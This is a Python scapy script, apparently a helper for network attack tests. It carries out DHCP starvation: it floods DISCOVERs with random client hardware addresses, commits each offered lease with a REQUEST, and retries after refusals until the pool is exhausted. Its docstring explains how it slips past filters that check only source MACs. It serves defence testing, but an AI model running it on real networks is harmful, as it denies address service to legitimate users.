#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""DHCP starvation, for the attack tests: rounds of COUNT DISCOVERs,
each for a new random client hardware address (chaddr), one round every
1.5 s for DURATION seconds; each OFFER is answered with a REQUEST so that
the server commits a lease.  Offers do not reserve an address, so two
clients may be offered the same one and the second is refused (NAK):
each refusal starts another client at once, until the pool is gone.  Every frame leaves with this
host's own source MAC: only the chaddr varies, so a filter that checks
source MACs alone sees nothing wrong.

Usage: dhcp_starve.py IFACE [--count N] [--duration S]
Prints "ready" once it listens, then
"discovers=N requests=N offers=N acks=N naks=N".
"""
import argparse
import os
import random
import time

from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf, get_if_hwaddr


def request(mac, chaddr, xid, kind, extra=()):
    return (Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
            / IP(src="0.0.0.0", dst="255.255.255.255")
            / UDP(sport=68, dport=67)
            / BOOTP(op=1, xid=xid, flags=0x8000, chaddr=chaddr + b"\0" * 10)
            / DHCP(options=[("message-type", kind),
                            ("client_id", b"\x01" + chaddr)] + list(extra) + ["end"]))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--count", type=int, default=100)
    ap.add_argument("--duration", type=float, default=4)
    a = ap.parse_args()

    mac = get_if_hwaddr(a.iface)
    sock = conf.L2socket(iface=a.iface)
    pending = {}
    seen = {"discovers": 0, "requests": 0, "offers": 0, "acks": 0, "naks": 0}
    end = [0.0]

    def discover():
        # A locally administered unicast address (RFC 7042 2.1).
        chaddr = bytes([0x02]) + os.urandom(5)
        xid = random.getrandbits(32)
        pending[xid] = chaddr
        sock.send(request(mac, chaddr, xid, "discover"))
        seen["discovers"] += 1

    def reply(p):
        if BOOTP not in p or DHCP not in p or p[BOOTP].op != 2:
            return
        xid = p[BOOTP].xid
        if xid not in pending:
            return
        opt = {o[0]: o[1] for o in p[DHCP].options if isinstance(o, tuple)}
        if opt.get("message-type") == 2:
            seen["offers"] += 1
            seen["requests"] += 1
            sock.send(request(mac, pending[xid], xid, "request",
                              [("requested_addr", p[BOOTP].yiaddr),
                               ("server_id", opt.get("server_id", p[IP].src))]))
        elif opt.get("message-type") == 5:
            seen["acks"] += 1
        elif opt.get("message-type") == 6:
            seen["naks"] += 1
            if time.time() < end[0] - 0.5:
                discover()

    sniffer = AsyncSniffer(iface=a.iface, filter="udp and dst port 68",
                           prn=reply, store=False,
                           started_callback=lambda: print("ready", flush=True))
    sniffer.start()
    time.sleep(0.2)
    end[0] = time.time() + a.duration
    while True:
        for _ in range(a.count):
            discover()
            time.sleep(0.002)
        if time.time() + 1.5 > end[0]:
            break
        time.sleep(1.5)
    time.sleep(max(0.0, end[0] - time.time()))
    sniffer.stop()
    print("discovers=%(discovers)d requests=%(requests)d offers=%(offers)d "
          "acks=%(acks)d naks=%(naks)d" % seen, flush=True)


if __name__ == "__main__":
    main()
